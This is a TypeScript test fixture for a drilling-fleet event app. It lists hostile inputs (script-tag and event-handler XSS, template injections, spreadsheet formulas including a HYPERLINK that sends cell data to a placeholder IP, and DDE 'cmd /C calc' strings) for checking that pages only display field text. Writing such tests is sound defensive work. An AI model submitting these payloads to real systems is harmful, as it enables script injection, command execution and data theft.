import { anEvent } from "../../support/builders.ts";
import type { FleetEvent } from "../../../src/wire/event.ts";
import { PLACE_NAME_MAX } from "../../../src/wire/event.ts";

/** What a text would set if it ran. */
export const TRAP = "__pwned";
const SET = `window.${TRAP}=1`;
const MEGABYTE = 1_000_000;

/** Texts that a rig's or a driller's field can hold and a page must only show. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  script: `<script>${SET}</script>`,
  "end of script": `</script><script>${SET}</script><!--<script>`,
  "event handler": `"><img src=x onerror="${SET}"><svg/onload=${SET}>`,
  "attribute in quotes": `' autofocus onfocus='${SET}' x='`,
  "end of title and field": `</title></textarea></style></select></template><iframe srcdoc="<script>parent.${TRAP}=1</script>">`,
  "script address": `javascript:${SET}`,
  htmx: `<div hx-get="/login" hx-trigger="load" hx-on:load="${SET}" hx-target="body"></div>`,
  template: "{{constructor.constructor('" + SET + "')()}} ${" + SET + "} <%= " + SET + " %>",
  entities: "&lt;script&gt; &amp;amp; &#x3C;b&#x3E; &nbsp <![CDATA[ ]]> --> <!--",
  "right to left": "pit gain \u202Egnihton\u202C and \u2067unended \u202Eoverride",
  "zero width": "pit\u200B\u200C\u200D\u2060\uFEFF gain\u00AD",
  formula: `=HYPERLINK("http://192.0.2.1/?"&A1,"open")`,
  "formula by plus": "+1+cmd|' /C calc'!A0",
  "formula by minus": "-2+3+cmd|' /C calc'!A0",
  "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
  "formula by tab": "\t=1+1",
  "formula by return": '\r=1+1\r\n"=2+2",=3+3',
  emoji: "👩🏽‍🚒🇳🇴🏴‍☠️".repeat(20),
  "combining marks": `Z${"\u0351\u036B\u0343\u036A\u0302".repeat(40)}A`,
  controls: "a\u0001b\u0007c\u001Bd\u2028e\u2029f\u0085g\u{E0041}h",
  "a long word": "W".repeat(5000),
};

/** A word of a megabyte, where a field takes one. */
export const MEGABYTE_WORD = "M".repeat(MEGABYTE);

/** As much of it as the name of a well takes, cut between characters. */
export function placeOf(text: string): string {
  return text.slice(0, PLACE_NAME_MAX).replace(/[\uD800-\uDBFF]$/, "");
}

/** An event with the text in every field that takes any. */
export function hostileEvent(rigId: string, timestamp: number, text: string, reasoning = text): FleetEvent {
  const place = placeOf(text);
  return anEvent({
    rig_id: rigId,
    timestamp,
    well_id: place,
    field: place,
    notes: text,
    advisory: {
      risk_level: "Critical",
      recommendation: text,
      expected_benefit: text,
      reasoning,
      trigger_parameter: text,
      votes: [
        { specialist: text, vote: "High", weight: 0.6, reasoning: text },
        { specialist: "MSE", vote: "Low", weight: 0.4, reasoning: text },
      ],
      physics_report: { detected_dysfunctions: [text, text] },
      context_used: [text],
      trace_log: [{ timestamp_ms: timestamp * 1000, stage: text, status: "Failed", message: text }],
    },
  });
}
